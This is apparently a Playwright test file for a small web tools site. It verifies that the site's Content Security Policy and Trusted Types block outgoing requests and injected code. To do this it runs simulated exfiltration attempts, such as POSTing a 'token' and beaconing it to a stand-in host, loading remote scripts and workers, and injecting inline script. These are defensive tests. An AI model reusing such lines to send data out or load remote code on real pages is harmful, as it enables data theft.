import { expect, open, test } from './fixtures.ts'
import { requestsBeyondFiles } from './support/requests.ts'

/** That pages are under their policy, and ask for nothing but files, stands in every-page.spec.ts; here, that both hold against what one tries. */

test('on a tool page the browser refuses to send anything anywhere, even to us', async ({ page, watch }) => {
  watch.allowedErrors.push(/Trusted|Content Security Policy|violates/)
  await open(page, '/en/dev/jwt')
  const outcomes = await page.evaluate(async () => {
    const refused = async (attempt: () => Promise<unknown>) =>
      attempt().then(
        () => 'sent',
        () => 'refused',
      )
    return [
      await refused(() => fetch('/api/get-country')),
      await refused(() => fetch('https://elsewhere.example/', { method: 'POST', body: 'token', mode: 'no-cors' })),
      navigator.sendBeacon('https://elsewhere.example/', 'token') ? 'queued' : 'refused',
      await refused(
        () =>
          new Promise((resolve, reject) => {
            const picture = new Image()
            picture.onload = resolve
            picture.onerror = reject
            picture.src = 'https://elsewhere.example/?token'
          }),
      ),
      await refused(
        () =>
          new Promise((resolve, reject) => {
            const script = document.createElement('script')
            script.onerror = reject
            script.onload = resolve
            // Refused twice: as an address by Trusted Types, as a request by the policy.
            script.src = 'https://elsewhere.example/a.js'
            document.head.append(script)
          }),
      ),
    ]
  })
  expect(outcomes.filter((outcome) => outcome === 'sent')).toEqual([])
  // All there is, for tools that judge pages from inside them.
  expect(await page.evaluate(async () => (await fetch('/robots.txt')).status)).toBe(200)
  // The browser reports a request it then refuses before it leaves; none may have got an answer.
  watch.foreignRequests.length = 0
})

test('no text becomes code or markup', async ({ page, watch }) => {
  watch.allowedErrors.push(/Trusted|Content Security Policy|violates/)
  await open(page, '/en/')
  await test.step('an injected script does not run', async () => {
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script')
      script.append('window.injected = true')
      document.body.append(script)
      try {
        document.body.setAttribute('onclick', 'window.injected = true')
      } catch {
        // Refused by Trusted Types, where the browser has them.
      }
      document.body.click()
      await new Promise((resolve) => setTimeout(resolve, 300))
      return 'injected' in window
    })
    expect(ran).toBe(false)
  })

  await test.step('a text does not become markup or code', async () => {
    const outcomes = await page.evaluate(() => {
      const refused = (attempt: () => unknown) => {
        try {
          attempt()
          return 'done'
        } catch {
          return 'refused'
        }
      }
      const element = document.createElement('div')
      return {
        markup: refused(() => {
          element.innerHTML = '<img src="x">'
        }),
        plainText: refused(() => {
          element.innerHTML = 'a & b'
        }),
        foreignWorker: refused(() => new Worker('https://elsewhere.example/a.js')),
        foreignScript: refused(() => {
          document.createElement('script').src = 'https://elsewhere.example/a.js'
        }),
      }
    })
    const expected = { markup: 'refused', plainText: 'done', foreignWorker: 'refused', foreignScript: 'refused' }
    expect(outcomes).toEqual(expected)
  })
})

test('a walk through the site by clicks, using its tools, breaks no rule and asks for nothing but files', async ({
  page,
}) => {
  const asked = requestsBeyondFiles(page)
  await open(page, '/en/')
  const walk = [
    '/en/metrics',
    '/en/metrics/length',
    '/en/metrics',
    '/en/',
    '/en/geo',
    '/en/geo/coordinates',
    '/en/geo',
    '/en/',
    '/en/dev',
    '/en/dev/jwt',
    '/en/dev',
    '/en/dev/ip',
  ]
  const typed: Readonly<Record<string, string>> = {
    '/en/metrics/length': '12345.678',
    '/en/geo/coordinates': '44.8125, 20.4612',
    '/en/dev/ip': '10.1.2.3',
  }
  for (const path of walk) {
    // The address changes a moment before the page does: a click in between would hit the page that goes.
    const heading = (await page.locator('h1').textContent()) ?? ''
    await page.locator(`main a[href="${path}"], header a[href="${path}"]`).first().click()
    await expect(page).toHaveURL(path)
    await expect(page.locator('h1')).not.toHaveText(heading)
    const text = typed[path]
    if (text) await page.locator('main input[type="text"], main input:not([type])').first().fill(text)
  }
  const documents = await page.evaluate(() => performance.getEntriesByType('navigation').length)
  expect(documents).toBe(1)
  await page.waitForLoadState('networkidle')
  expect(asked).toEqual([])
})
